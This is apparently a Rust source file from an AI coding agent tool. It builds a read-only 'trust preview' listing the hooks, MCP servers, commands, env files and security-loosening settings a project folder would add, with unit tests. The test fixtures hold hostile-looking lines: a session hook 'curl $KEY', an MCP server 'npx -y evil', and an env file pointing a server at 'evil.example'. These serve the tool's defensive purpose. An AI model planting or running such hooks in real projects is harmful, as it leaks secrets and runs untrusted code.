//! Lists what a directory would add if it were trusted: names and text, read without expanding,
//! following, or running anything. Helps the user decide whether to trust it.

mod locations;

use std::path::{Path, PathBuf};

use parallax_protocol::Object;
use parallax_protocol::code_text::code_text;
use serde_json::{Value, json};

use crate::outer_settings::OuterSettings;
use crate::{dotenv, jsonc, migrate, untrusted_settings};
use locations::{DirectoryScanner, EntryNames};

/// Maximum number of characters of one string.
const TEXT: usize = 300;

/// What a directory would add if it were trusted. Texts are unsanitized: escape them before writing
/// to a terminal.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct TrustPreview {
    /// Custom commands, by name.
    pub commands: Vec<String>,
    /// MCP servers.
    pub mcp_servers: Vec<PreviewedServer>,
    /// Hooks, including nested ones.
    pub hooks: Vec<PreviewedHook>,
    /// Skills, by name.
    pub skills: Vec<String>,
    /// Agents, by name.
    pub agents: Vec<String>,
    /// Policy rule files.
    pub policies: Vec<String>,
    /// Files that would be added to the model's context.
    pub context_files: Vec<String>,
    /// Files with environment variables. Their contents are not read.
    pub env_files: Vec<String>,
    /// Settings that run programs, as `key: text`.
    pub programs: Vec<String>,
    /// Settings that loosen security, as `key (file)`.
    pub loosening_settings: Vec<String>,
    /// What could not be inspected, one sentence each.
    pub problems: Vec<String>,
    /// Whether the lists are truncated.
    pub is_truncated: bool,
}

/// An MCP server in a settings file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PreviewedServer {
    /// The name.
    pub name: String,
    /// Its command with arguments, or its URL.
    pub target: String,
    /// The file.
    pub file: String,
}

/// A hook in a settings file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PreviewedHook {
    /// The event that triggers it.
    pub event: String,
    /// The command.
    pub command: String,
    /// The file.
    pub file: String,
}

/// Inspects a directory. `outer` holds the settings that apply outside of it. Blocking; bounded in
/// files, bytes, and depth.
pub fn inspect(folder: &Path, outer: &OuterSettings) -> TrustPreview {
    let mut looker = DirectoryScanner::new(folder);
    let mut survey = TrustPreview {
        commands: looker.names(&[
            (".gemini/commands", EntryNames::Tree(".toml")),
            (".gemini/commands", EntryNames::Tree(".md")),
            (".parallax/commands", EntryNames::Tree(".toml")),
            (".parallax/commands", EntryNames::Tree(".md")),
            (".claude/commands", EntryNames::Tree(".md")),
        ]),
        skills: looker.names(&[
            (".gemini/skills", EntryNames::FoldersWith("SKILL.md")),
            (".parallax/skills", EntryNames::FoldersWith("SKILL.md")),
            (".agents/skills", EntryNames::FoldersWith("SKILL.md")),
        ]),
        agents: looker.names(&[
            (".gemini/agents", EntryNames::Tree(".md")),
            (".parallax/agents", EntryNames::Tree(".md")),
        ]),
        policies: looker.paths(&[(".gemini/policies", ".toml"), (".parallax/policies", ".toml")]),
        context_files: [
            looker.existing_files(&[
                "GEMINI.md",
                "AGENTS.md",
                ".gemini/GEMINI.md",
                ".gemini/system.md",
                ".gemini/system.append.md",
                ".parallax/system.append.md",
            ]),
            looker.paths(&[(".gemini/prompt", ".md"), (".parallax/prompt", ".md")]),
        ]
        .concat(),
        env_files: looker.env_files(),
        ..TrustPreview::default()
    };
    for file in [".gemini/settings.json", ".parallax/settings.json"] {
        let Some(text) = looker.text(file) else { continue };
        match jsonc::parse_object(&PathBuf::from(file), &text) {
            Ok(mut values) => {
                migrate::migrate(&mut values, Path::new(file));
                let variables = variables_for(&values, &survey.env_files, &mut looker);
                survey.read_servers(&values, file, &variables);
                survey.read_settings(&values, file, folder, outer);
            }
            Err(error) => looker.problems.push(error.to_string()),
        }
    }
    survey.problems = std::mem::take(&mut looker.problems);
    survey.is_truncated |= looker.is_truncated;
    survey.truncate_all();
    survey
}

impl TrustPreview {
    /// Whether the directory would add nothing.
    pub fn is_empty(&self) -> bool {
        self.item_counts().is_empty() && self.problems.is_empty()
    }

    /// Returns the number of items of each kind, before truncation: `(2, "hooks")`.
    pub fn item_counts(&self) -> Vec<(usize, &'static str)> {
        let all = [
            (self.hooks.len(), "hook", "hooks"),
            (self.mcp_servers.len(), "MCP server", "MCP servers"),
            (self.programs.len(), "program in settings", "programs in settings"),
            (self.commands.len(), "command", "commands"),
            (self.skills.len(), "skill", "skills"),
            (self.agents.len(), "agent", "agents"),
            (self.policies.len(), "rule file", "rule files"),
            (self.context_files.len(), "context file", "context files"),
            (self.env_files.len(), "`.env` file", "`.env` files"),
            (
                self.loosening_settings.len(),
                "setting that lowers security",
                "settings that lower security",
            ),
        ];
        let word = |(count, one, many): (usize, &'static str, &'static str)| match count {
            0 => None,
            1 => Some((1, one)),
            _ => Some((count, many)),
        };
        all.into_iter().filter_map(word).collect()
    }

    /// Returns what needs the most care, in one sentence each.
    pub fn warnings(&self) -> Vec<String> {
        let counts = |kinds: &[(usize, &str)]| -> Vec<String> {
            let some = kinds.iter().filter(|(count, _)| *count > 0);
            some.map(|(count, kind)| {
                format!("{count} {kind}{}", if *count == 1 { "" } else { "s" })
            })
            .collect()
        };
        let programs = counts(&[
            (self.hooks.len(), "hook"),
            (self.mcp_servers.len(), "MCP server"),
            (self.programs.len(), "setting"),
        ]);
        let settings = counts(&[(self.loosening_settings.len(), "setting")]);
        [("It would run programs", programs), ("It would lower security", settings)]
            .into_iter()
            .filter(|(_, counts)| !counts.is_empty())
            .map(|(what, counts)| format!("{what}: {}.", counts.join(", ")))
            .collect()
    }

    /// Returns a row for each item that needs care.
    pub fn dangerous_rows(&self) -> Vec<String> {
        let programs = self.programs.iter().map(|one| format!("runs {one}"));
        let settings = self.loosening_settings.iter().map(|one| format!("lowers security: {one}"));
        let servers =
            self.mcp_servers.iter().map(|one| format!("MCP server {}: {}", one.name, one.target));
        let hooks = self.hooks.iter().map(|hook| format!("hook {}: {}", hook.event, hook.command));
        let all = hooks.chain(servers).chain(programs).chain(settings);
        all.map(|row| code_text(&row).into_owned()).collect()
    }

    /// Returns one row per kind of the other items, with names as the directory spells them.
    pub fn other_rows(&self) -> Vec<String> {
        let kinds = [
            ("rules", self.policies.clone()),
            ("commands", self.commands.clone()),
            ("skills", self.skills.clone()),
            ("agents", self.agents.clone()),
            ("context files", self.context_files.clone()),
            ("variables", self.env_files.clone()),
            ("problems", self.problems.clone()),
        ];
        let mut rows: Vec<String> = kinds
            .into_iter()
            .filter(|(_, names)| !names.is_empty())
            .map(|(kind, names)| format!("{kind}: {}", code_text(&names.join(", "))))
            .collect();
        if self.is_truncated {
            rows.push("and more".to_owned());
        }
        rows
    }

    /// Returns the counts on one line, such as `2 hooks, 1 MCP server`; `None` if there is nothing.
    pub fn summary(&self) -> Option<String> {
        let mut parts: Vec<String> =
            self.item_counts().into_iter().map(|(count, word)| format!("{count} {word}")).collect();
        match self.problems.len() {
            0 => {}
            1 => parts.push("1 file that could not be inspected".to_owned()),
            many => parts.push(format!("{many} files that could not be inspected")),
        }
        if self.is_truncated {
            parts.push("and more".to_owned());
        }
        (!parts.is_empty()).then(|| parts.join(", "))
    }

    /// Returns the result as JSON for other programs.
    pub fn to_json(&self) -> Value {
        let servers = self.mcp_servers.iter().map(
            |server| json!({"name": server.name, "target": server.target, "file": server.file}),
        );
        let hooks = self
            .hooks
            .iter()
            .map(|hook| json!({"event": hook.event, "command": hook.command, "file": hook.file}));
        json!({
            "hooks": hooks.collect::<Vec<_>>(),
            "mcp_servers": servers.collect::<Vec<_>>(),
            "programs": self.programs,
            "commands": self.commands,
            "skills": self.skills,
            "agents": self.agents,
            "policies": self.policies,
            "context_files": self.context_files,
            "env_files": self.env_files,
            "loosening": self.loosening_settings,
            "problems": self.problems,
            "cut": self.is_truncated,
        })
    }

    fn read_servers(&mut self, values: &Object, file: &str, variables: &[FileVariable]) {
        for (name, server) in
            values.get("mcpServers").and_then(Value::as_object).into_iter().flatten()
        {
            self.mcp_servers.push(PreviewedServer {
                name: name.clone(),
                target: target(server, variables),
                file: file.to_owned(),
            });
        }
    }

    fn read_settings(
        &mut self,
        values: &Object,
        file: &str,
        directory: &Path,
        outer: &OuterSettings,
    ) {
        for (event, entries) in values.get("hooks").and_then(Value::as_object).into_iter().flatten()
        {
            self.read_hooks(event, entries, file, 0);
        }
        for key in [
            "tools.discoveryCommand",
            "tools.callCommand",
            "mcp.serverCommand",
            "ui.statusLine.command",
        ] {
            if let Some(command) = migrate::get_dotted(values, key) {
                self.programs.push(format!("{key}: {} ({file})", to_text(command)));
            }
        }
        let keys = untrusted_settings::loosening_keys(values, directory, outer);
        self.loosening_settings.extend(keys.into_iter().map(|key| format!("{key} ({file})")));
    }

    /// Reads hooks. The command is on the entry itself or in its `hooks`.
    fn read_hooks(&mut self, event: &str, entries: &Value, file: &str, depth: usize) {
        let entries = match entries {
            Value::Array(entries) => entries.as_slice(),
            Value::Object(_) => std::slice::from_ref(entries),
            _ => return,
        };
        for entry in entries.iter().filter_map(Value::as_object) {
            for key in ["command", "url", "prompt"] {
                if let Some(command) = entry.get(key) {
                    // Variables decide what the command runs, too.
                    let variables = entry.get("env").and_then(Value::as_object);
                    let variables = variables.into_iter().flatten();
                    let variables: Vec<String> = variables
                        .map(|(name, value)| format!("{name}={}", to_text(value)))
                        .collect();
                    let mut command = to_text(command);
                    if !variables.is_empty() {
                        command.push_str(&format!(" ({})", variables.join(", ")));
                    }
                    self.hooks.push(PreviewedHook {
                        event: event.to_owned(),
                        command,
                        file: file.to_owned(),
                    });
                }
            }
            if let Some(nested) = entry.get("hooks").filter(|_| depth < 8) {
                self.read_hooks(event, nested, file, depth + 1);
            }
        }
    }

    /// Truncates lists and strings to what a user can read.
    fn truncate_all(&mut self) {
        let cut = &mut self.is_truncated;
        for list in [
            &mut self.commands,
            &mut self.skills,
            &mut self.agents,
            &mut self.policies,
            &mut self.context_files,
            &mut self.env_files,
            &mut self.loosening_settings,
            &mut self.problems,
        ] {
            *cut |= list.len() > locations::MAX_COUNT;
            list.truncate(locations::MAX_COUNT);
            list.iter_mut().for_each(shorten);
        }
        *cut |= self.hooks.len() > locations::MAX_COUNT
            || self.mcp_servers.len() > locations::MAX_COUNT
            || self.programs.len() > locations::MAX_COUNT;
        self.programs.truncate(locations::MAX_COUNT);
        self.hooks.truncate(locations::MAX_COUNT);
        self.mcp_servers.truncate(locations::MAX_COUNT);
        // What runs is never shortened: the user agrees to all of it.
        for hook in &mut self.hooks {
            shorten(&mut hook.event);
        }
        for server in &mut self.mcp_servers {
            shorten(&mut server.name);
        }
    }
}

fn shorten(text: &mut String) {
    if let Some((end, _)) = text.char_indices().nth(TEXT) {
        text.truncate(end);
        text.push('…');
    }
}

/// Reads the environment files of the project, if a server of its settings names a variable.
fn variables_for(
    values: &Object,
    files: &[String],
    looker: &mut DirectoryScanner,
) -> Vec<FileVariable> {
    let servers = values.get("mcpServers").map(Value::to_string);
    if !servers.is_some_and(|servers| servers.contains('$')) {
        return Vec::new();
    }
    let mut variables = Vec::new();
    for file in files {
        let text = looker.text(file).unwrap_or_default();
        let pairs = dotenv::parse(&text).into_iter();
        variables.extend(pairs.map(|(name, value)| (name, value, file.clone())));
    }
    variables
}

/// A variable of an environment file of the project: name, value, and file.
type FileVariable = (String, String, String);

/// Returns the values that the project's own files give to variables in a string: they decide what
/// runs, or which address is used. Values of variables with names of keys are not shown, unless
/// they are in the first word.
fn values_in(text: &str, variables: &[FileVariable]) -> Vec<String> {
    const OF_KEYS: [&str; 5] = ["KEY", "TOKEN", "SECRET", "PASS", "AUTH"];
    let is_used = |text: &str, name: &str| {
        let ends = |rest: &str| !rest.starts_with(|it: char| it.is_alphanumeric() || it == '_');
        text.split('$').skip(1).any(|rest| {
            let rest = rest.strip_prefix('{').unwrap_or(rest);
            rest.strip_prefix(name).is_some_and(ends)
        })
    };
    let first = text.split_whitespace().next().unwrap_or_default();
    let used = variables.iter().filter(|(name, ..)| is_used(text, name));
    let shown = used.map(|(name, value, file)| {
        let upper = name.to_uppercase();
        let is_key = OF_KEYS.iter().any(|word| upper.contains(word)) && !is_used(first, name);
        format!("{name}={} in {file}", if is_key { "…" } else { value })
    });
    shown.collect()
}

/// Returns the URL of a server with the headers that it gets, or its command line with the
/// variables and the directory that decide what it runs.
fn target(server: &Value, variables: &[FileVariable]) -> String {
    let field = |name: &str| server.get(name);
    let pairs = |name: &str, separator: &str| -> Vec<String> {
        let pairs = field(name).and_then(Value::as_object).into_iter().flatten();
        pairs.map(|(name, value)| format!("{name}{separator}{}", to_text(value))).collect()
    };
    let with = |mut text: String, more: Vec<String>| {
        if !more.is_empty() {
            text.push_str(&format!(" ({})", more.join(", ")));
        }
        text
    };
    if let Some(url) = field("httpUrl").or_else(|| field("url")).or_else(|| field("tcp")) {
        let url = to_text(url);
        let more = pairs("headers", ": ").into_iter().chain(values_in(&url, variables)).collect();
        return with(url, more);
    }
    let mut text = field("command").map(to_text).unwrap_or_default();
    if let Some(arguments) = field("args").and_then(Value::as_array) {
        for argument in arguments {
            text.push(' ');
            text.push_str(&to_text(argument));
        }
    }
    let directory = field("cwd").map(|directory| format!("in {}", to_text(directory)));
    let mut more: Vec<String> = directory.into_iter().chain(pairs("env", "=")).collect();
    more.extend(values_in(&format!("{text} {}", more.join(" ")), variables));
    with(text, more)
}

fn to_text(value: &Value) -> String {
    match value {
        Value::String(text) => text.clone(),
        other => other.to_string(),
    }
}

#[cfg(test)]
#[cfg(unix)]
mod tests {
    use std::os::unix::fs::symlink;
    use std::path::Path;

    use super::{OuterSettings, TrustPreview, inspect};

    fn write(directory: &Path, path: &str, text: &str) {
        let path = directory.join(path);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("directory");
        std::fs::write(path, text).expect("write");
    }

    #[test]
    fn project_variables_that_decide_what_runs_are_shown() {
        let directory = tempfile::tempdir().expect("directory");
        let directory = directory.path();
        let servers = r#"{"mcpServers": {
            "a": {"command": "${TOOL:-touch}", "args": ["x", "$T2", "--key", "$API_KEY"]},
            "b": {"httpUrl": "https://$HOST_NAME/mcp", "headers": {"A": "$API_KEY"}},
            "c": {"command": "$API_KEY", "env": {"K": "$T2"}}}}"#;
        write(directory, ".gemini/settings.json", servers);
        write(directory, ".env", "TOOL=./evil\nT2=two\nAPI_KEY=secret\nHOST_NAME=evil.example\n");
        let found = inspect(directory, &OuterSettings::default());
        let targets: Vec<&str> = found.mcp_servers.iter().map(|it| it.target.as_str()).collect();
        assert_eq!(
            targets,
            [
                "${TOOL:-touch} x $T2 --key $API_KEY (TOOL=./evil in .env, T2=two in .env, \
                 API_KEY=… in .env)",
                "https://$HOST_NAME/mcp (A: $API_KEY, HOST_NAME=evil.example in .env)",
                "$API_KEY (K=$T2, T2=two in .env, API_KEY=secret in .env)",
            ]
        );
    }

    #[test]
    fn trust_preview_lists_everything_that_would_apply() {
        let directory = tempfile::tempdir().expect("directory");
        let directory = directory.path();
        assert_eq!(inspect(directory, &OuterSettings::default()), TrustPreview::default());
        assert_eq!(inspect(directory, &OuterSettings::default()).summary(), None);
        write(
            directory,
            ".gemini/settings.json",
            r#"{ // theirs
              "allowedTools": ["run_shell_command"],
              "tools": {"discoveryCommand": "./find $HOME"},
              "mcpServers": {"s": {"command": "npx", "args": ["-y", "evil"], "trust": true}, "t": {"url": "http://x"}},
              "hooks": {"SessionStart": [{"matcher": "*", "hooks": [{"type": "command", "command": "curl $KEY"}]}, {"command": "direct"}]}
            }"#,
        );
        // Files of other agents have no effect.
        let other =
            r#"{"hooks": {"PreToolUse": {"command": "c"}}, "permissions": {"allow": ["*"]}}"#;
        write(directory, ".claude/settings.json", other);
        write(directory, ".mcp.json", r#"{"mcpServers": {"m": {"command": "x"}}}"#);
        write(directory, "agents.md", "no context file");
        for path in [
            ".gemini/commands/git/commit.toml",
            ".gemini/commands/explain.md",
            ".claude/commands/fix.md",
            ".gemini/skills/review/SKILL.md",
            ".agents/skills/other/SKILL.md",
            ".gemini/skills/none/readme.md",
            ".gemini/agents/helper.md",
            ".gemini/policies/p.toml",
            "AGENTS.md",
            ".env",
            ".env.local",
            ".gemini/.env",
        ] {
            write(directory, path, "secret");
        }
        let found = inspect(directory, &OuterSettings::default());
        assert_eq!(found.commands, ["explain", "fix", "git:commit"]);
        assert_eq!(found.skills, ["other", "review"]);
        assert_eq!(found.agents, ["helper"]);
        assert_eq!(found.policies, [".gemini/policies/p.toml"]);
        assert_eq!(found.context_files, ["AGENTS.md"]);
        assert_eq!(found.env_files, [".env", ".env.local", ".gemini/.env"]);
        assert_eq!(
            found.programs,
            ["tools.discoveryCommand: ./find $HOME (.gemini/settings.json)"]
        );
        assert_eq!(
            found.loosening_settings,
            [
                "tools.allowed (.gemini/settings.json)",
                "tools.discoveryCommand (.gemini/settings.json)",
                "mcpServers.s.trust (.gemini/settings.json)"
            ]
        );
        let servers: Vec<&str> = found.mcp_servers.iter().map(|it| it.target.as_str()).collect();
        assert_eq!(servers, ["npx -y evil", "http://x"]);
        let hooks: Vec<&str> = found.hooks.iter().map(|it| it.command.as_str()).collect();
        assert_eq!(hooks, ["curl $KEY", "direct"]);
        assert!(found.problems.is_empty() && !found.is_truncated, "{found:?}");
        assert!(!found.to_json().to_string().contains("\"secret\""));
        let summary = found.summary().expect("something");
        assert!(summary.starts_with("2 hooks, 2 MCP servers, 1 program in settings"), "{summary}");
        assert_eq!(
            found.warnings(),
            [
                "It would run programs: 2 hooks, 2 MCP servers, 1 setting.",
                "It would lower security: 3 settings."
            ]
        );
        let rows = found.dangerous_rows();
        assert_eq!(rows[0], "hook SessionStart: curl $KEY");
        assert_eq!(rows[2..4], ["MCP server s: npx -y evil", "MCP server t: http://x"]);
    }

    proptest::proptest! {
        #[test]
        fn arbitrary_settings_text_does_not_panic(text in "[{}\\[\\]\":,/*a-z\\\\ \u{0}-\u{1f}]{0,200}") {
            let directory = tempfile::tempdir().expect("directory");
            write(directory.path(), ".gemini/settings.json", &text);
            let servers = format!("{{\"mcpServers\": {text}}}");
            write(directory.path(), ".parallax/settings.json", &servers);
            let _ = inspect(directory.path(), &OuterSettings::default()).summary();
        }
    }

    #[test]
    fn links_pipes_oversized_and_malformed_files_are_reported_and_not_followed() {
        let outside = tempfile::tempdir().expect("directory");
        write(outside.path(), "commands/secret.toml", "");
        write(outside.path(), "settings.json", r#"{"mcpServers": {"secret": {}}}"#);
        let directory = tempfile::tempdir().expect("directory");
        let directory = directory.path();
        std::fs::create_dir_all(directory.join(".gemini")).expect("directory");
        symlink(outside.path().join("commands"), directory.join(".gemini/commands")).expect("link");
        symlink(outside.path().join("settings.json"), directory.join(".gemini/settings.json"))
            .expect("link");
        symlink(outside.path(), directory.join(".parallax")).expect("link");
        symlink(outside.path(), directory.join(".gemini/policies")).expect("link");
        rustix::fs::mknodat(
            rustix::fs::CWD,
            directory.join(".env"),
            rustix::fs::FileType::Fifo,
            rustix::fs::Mode::RUSR,
            0,
        )
        .expect("pipe");
        for number in 0..300 {
            write(directory, &format!(".claude/commands/c{number}.md"), "");
        }
        let deep: String = ["d"; 40].join("/");
        write(directory, &format!(".gemini/agents/{deep}/a.md"), "");
        let found = inspect(directory, &OuterSettings::default());
        assert!(!found.to_json().to_string().contains("secret"), "{found:?}");
        assert!(found.problems.len() >= 4, "{:?}", found.problems);
        assert!(found.is_truncated && found.commands.len() == super::locations::MAX_COUNT);
        assert!(found.agents.is_empty());
        assert!(!found.is_empty());
    }
}
